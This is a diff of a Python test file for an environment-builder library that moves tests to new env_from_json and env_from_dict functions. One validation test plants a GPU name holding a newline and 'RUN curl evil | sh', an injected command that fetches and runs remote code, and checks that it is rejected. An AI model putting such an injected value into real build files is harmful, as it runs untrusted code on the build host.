@@ -16,6 +16,7 @@ from envbuilder.errors import UserError
 from envbuilder.lock.constraints import with_constraints
 from envbuilder.record import Record, plain
 from envbuilder.model.resolved import ResolvedEnv, field_spec, record_spec
+from envbuilder.model.runplan import env_from_dict, env_from_json
 
 
 def record_classes() -> dict[str, type]:
@@ -145,7 +146,7 @@ def test_every_object_of_the_schema_is_a_record_or_a_declared_mapping():
 def test_json_round_trips_to_the_same_bytes_and_the_same_record(profile):
     env = with_constraints(resolved(profile))
     text = env.to_json()
-    back = ResolvedEnv.from_json(text)
+    back = env_from_json(text)
     assert back == env
     assert back.to_json() == text
     assert type(back.gpu).__name__ == "Gpu" and back.gpu.compute_capability == env.gpu.compute_capability
@@ -200,25 +201,25 @@ def test_a_mirror_and_a_lock_make_new_environments_and_leave_the_old_one_as_it_w
 def test_an_unmirrored_environment_writes_no_mirror_key_and_reads_back_without_one():
     data = json.loads(resolved("4090").to_json())
     assert "mirror" not in data and data["constraints"] is None
-    assert ResolvedEnv.from_dict(data).mirror is None
+    assert env_from_dict(data).mirror is None
 
 
 def test_from_dict_checks_what_it_is_given():
     data = json.loads(resolved("p40").to_json())
     data["gpu"]["name"] = "P40\n RUN curl evil | sh"
     with pytest.raises(UserError, match="gpu.name"):
-        ResolvedEnv.from_dict(data, "image.json")
+        env_from_dict(data, "image.json")
     with pytest.raises(UserError, match="schema version"):
-        ResolvedEnv.from_dict(["not", "an", "object"])
+        env_from_dict(["not", "an", "object"])
     data = json.loads(resolved("p40").to_json())
     del data["gpu"], data["train"]["n_gpus"]
     with pytest.raises(UserError) as e:
-        ResolvedEnv.from_dict(data)
+        env_from_dict(data)
     assert "gpu is missing; train.n_gpus is missing" in str(e.value)
     data = json.loads(resolved("p40").to_json())
     data["torch"] = "2.6.0"
     with pytest.raises(UserError, match="torch: expected a mapping"):
-        ResolvedEnv.from_dict(data)
+        env_from_dict(data)
 
 
 def test_plain_data_of_an_environment_is_what_the_file_holds():
